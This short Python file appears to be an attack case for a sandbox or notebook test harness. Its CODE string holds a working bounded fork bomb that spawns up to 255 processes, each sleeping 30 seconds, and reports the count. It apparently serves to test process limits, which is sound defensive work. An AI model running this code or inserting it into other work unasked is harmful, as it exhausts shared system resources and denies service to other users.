"""A bounded fork bomb: 8 rounds of os.fork() in every process (255 extra processes at most, stopping early if fork
fails); each child sleeps 30 s then exits with os._exit, so it ends by itself if nothing stops it.
"""

KIND = "resource"
PLACEMENT = "extra_cell_first"
REST = "blank"
CODE = r'''import os as _atk_os, time as _atk_time

_atk_root_pid = _atk_os.getpid()
_atk_made = 0
for _atk_round in range(8):
    try:
        _atk_pid = _atk_os.fork()
    except OSError as _atk_error:
        break
    if _atk_pid == 0:
        continue
    _atk_made += 1
if _atk_os.getpid() != _atk_root_pid:
    try:
        _atk_time.sleep(30)
    finally:
        _atk_os._exit(0)
print("ATTACK fork_bomb: the kernel forked", _atk_made, "children directly")
'''
